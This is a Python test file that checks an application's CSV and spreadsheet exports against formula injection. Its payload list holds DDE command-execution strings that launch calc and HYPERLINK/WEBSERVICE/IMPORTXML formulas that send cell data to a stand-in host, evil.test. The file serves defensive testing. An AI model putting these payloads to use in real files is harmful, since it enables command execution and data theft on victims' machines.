"""C5: no text that anybody typed runs as a formula in a file that Regulars hands out."""

import csv
import io
import os
import shutil
import subprocess
from collections.abc import Iterator, Sequence
from pathlib import Path

import polars as pl
import pytest
from django.test import Client
from django.urls import reverse

from regulars.console import downloads
from regulars.console.downloads import csv_download
from regulars.console.exports import EXPORTS
from regulars.insights.exports import safe_for_spreadsheets
from regulars.intake.models import Import, Reject
from regulars.intake.queries import reject_file
from regulars.kernel import spreadsheets
from regulars.kernel.spreadsheets import harmless
from regulars.messaging.operations.sends import begin_send
from regulars.messaging.registry import Source
from regulars.segments import operations as segments
from regulars.shop import operations as shop
from regulars.shop.models import (
    AttributeDefinition,
    AttributeValue,
    EventSource,
    Identifier,
    OrderLine,
    Product,
    Store,
)
from regulars.staff.rules import Role
from tests.intake.importing import NOW, import_lines
from tests.messaging.letters_to import make_template
from tests.messaging.sending import KIND
from tests.shop.factories import make_business, make_customer, make_line, make_order
from tests.staff.factories import make_user

pytestmark = [pytest.mark.reliability, pytest.mark.integration]

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "   +",
    "\u00a0=",
    "\u3000=",
    "＝",
    "＋",
    "－",
    "＠",
    "\t@",
)
_BODIES = (
    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test?"&A1,"click")',
    'WEBSERVICE("http://evil.test")', 'IMPORTXML("http://evil.test","//a")',
)  # fmt: skip
PAYLOADS = (
    *tuple(start + body for start in _STARTS for body in _BODIES)[:90],
    'DDE("cmd";"/C calc")',
    "|calc",
    "%0A=1",
)
# LibreOffice, which the long form opens every file with where it is installed; otherwise files are read by rules.
OFFICE = (shutil.which("soffice") or "") if os.environ.get("REGULARS_LONG") else ""
HOW = "opened in LibreOffice and read by rules" if OFFICE else "read by rules"
# What starts a formula in Excel, LibreOffice, WPS and Google Sheets once blanks before it are dropped.
_RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def formulas(content: bytes, encoding: str) -> list[str]:
    """Return the cells that a spreadsheet would run, by the rules of the four that merchants use."""
    rows = csv.reader(io.StringIO(content.decode(encoding), newline=""))
    return [cell for row in rows for cell in row if _is_formula(cell)]


def _is_formula(cell: str) -> bool:
    return cell.strip().startswith(_RUNS) and not cell.strip().lstrip("+-").replace(".", "").isdigit()


def exported() -> Iterator[tuple[str, bytes, str]]:
    """Yield every way that texts leave as CSV: its name, the file, and its encoding."""
    head = [f"column {number}" for number in range(3)]
    rows = [(text, f"{text} and more", f"before, {text}") for text in PAYLOADS]
    for form in ("csv", "excel", "gb18030"):
        encoding = "gb18030" if form == "gb18030" else "utf-8-sig"
        response = csv_download("list", head, rows, form=form)
        yield f"console list as {form}", b"".join(response), encoding
    table = pl.DataFrame({"name": PAYLOADS})
    yield "CLI export", safe_for_spreadsheets(table).write_csv().encode(), "utf-8"


def record_of_payloads() -> None:
    """Write a payload into every text of the record that somebody outside can fill."""
    make_business()
    for number, text in enumerate(PAYLOADS[:60]):
        store, _new = Store.objects.get_or_create(code=text[:64], defaults={"name": text})
        customer = make_customer(code=text, name=text)
        Identifier.objects.create(customer=customer, kind="external", value=text, store=store)
        order = make_order(customer=customer, store=store, code=text, day=20_000)
        texts = dict.fromkeys(("name", "category", "brand", "pack_size"), text)
        product = Product.objects.create(store=store, code=text, **texts)
        line = make_line(order=order, product=product)
        OrderLine.objects.filter(pk=line.pk).update(key=text)
        account = shop.ensure_account(code=text, name=text, industry=text, country=text)
        shop.add_contacts(account_id=account.pk, contacts=[(customer.pk, text)], now=NOW)
        tag = shop.ensure_tag(name=text.strip() + str(number))
        shop.change_tag(tag_id=tag.pk, name=tag.name, description=text, colour="grey")
        shop.tag_customers(tag_id=tag.pk, customer_ids=[customer.pk], source=text, now=NOW)
        label = AttributeDefinition.objects.create(name=f"a{number}", label=text, label_zh=text, type="text")
        AttributeValue.objects.create(
            definition=label, customer=customer, text=text, source=text, told_at=NOW
        )
        segments.create_list(name=text.strip() + str(number), description=text, now=NOW)
        EventSource.objects.create(code=f"s{number}", name=text, store=store)
        Import.objects.create(store=store, file_name=text, state="failed", error=text, created_at=NOW)
        make_user(role=Role.OWNER, name=text)
        make_template(name=text.strip() + str(number))
        source = Source(kind=KIND, id=number)
        begin_send(source, label=text, purpose="marketing", now=NOW)


@pytest.mark.django_db
def test_no_list_of_the_console_holds_one(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    record_of_payloads()
    client = Client()
    client.force_login(make_user(role=Role.OWNER))
    to_open: list[bytes] = []

    def found(name: str, form: str) -> tuple[list[str], int]:
        response = client.get(reverse(f"console:export-{name}"), {"format": form})
        content = b"".join(response)
        if form == "parquet":
            return [], len(pl.read_parquet(io.BytesIO(content)))
        encoding = "gb18030" if form == "gb18030" else "utf-8-sig"
        to_open.append(content.decode(encoding).encode())
        return formulas(content, encoding), content.decode(encoding).count("\n") - 1

    filled = 0
    for name in EXPORTS:
        counts = {form: found(name, form) for form in ("csv", "excel", "gb18030", "parquet")}
        assert all(bad == [] for bad, _rows in counts.values()), name
        filled += counts["parquet"][1] >= 60
    assert filled >= 13
    assert formula_cells_in_office(to_open, tmp_path) == 0
    print(
        f"C5: {len(EXPORTS)} lists in 4 forms, {filled} of them full of {len(PAYLOADS[:60])} payloads, {HOW}: 0 formula cells"
    )
    to_open.clear()
    monkeypatch.setattr(downloads, "harmless", lambda value: value)
    assert found("tags", "csv")[0], "the planted bug was not seen"
    assert not OFFICE or formula_cells_in_office(to_open, tmp_path), "LibreOffice did not see it"


@pytest.mark.unit
def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
    files = list(exported())
    for name, content, encoding in files:
        assert formulas(content, encoding) == [], name
    assert formula_cells_in_office([text.decode(code).encode() for _, text, code in files], tmp_path) == 0
    print(f"C5: {len(PAYLOADS)} payloads x {len(files)} exports, {HOW}: 0 formula cells")


@pytest.mark.django_db
def test_no_file_of_refused_lines_holds_one(tmp_path: Path) -> None:
    make_business()
    quoted = [f'"{text.replace(chr(34), chr(34) * 2)}"' for text in PAYLOADS if not set(text) & set("\r\n")]
    row = import_lines(tmp_path, *(f"{n},2026-01-05,{text},wipes,?,1" for n, text in enumerate(quoted)))
    assert Reject.objects.count() == row.lines_rejected > 60
    assert formulas(b"".join(reject_file(row.pk)), "utf-8-sig") == []


@pytest.mark.unit
def test_an_export_that_looks_at_the_equals_sign_only_would_be_found_out(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    def careless(value: object) -> object:
        return f"'{value}" if isinstance(value, str) and value.startswith("=") else value

    monkeypatch.setattr(downloads, "harmless", careless)
    _, content, encoding = next(exported())
    assert formulas(content, encoding)


@pytest.mark.unit
def test_what_is_guarded_reads_back_as_it_was() -> None:
    for text in PAYLOADS:
        guarded = str(harmless(text))
        table = pl.DataFrame({"cell": [guarded]}).select(
            pl.col("cell").str.replace(rf"^'({spreadsheets.FORMULA_START})", "$1")
        )
        assert table["cell"][0] == text


def formula_cells_in_office(files: Sequence[bytes], folder: Path) -> int:
    """Let LibreOffice, if it is here, read files as a person would open them, and count the cells that became formulas."""
    if not OFFICE:
        return 0
    opened = folder / "opened"
    shutil.rmtree(opened, ignore_errors=True)
    opened.mkdir()
    paths = [opened / f"{number}.csv" for number in range(len(files))]
    for path, content in zip(paths, files, strict=True):
        path.write_bytes(content)
    command = [OFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", opened, *paths], check=True, capture_output=True, timeout=600)
    return sum(
        path.with_suffix(".fods").read_text(encoding="utf-8").count("table:formula=") for path in paths
    )
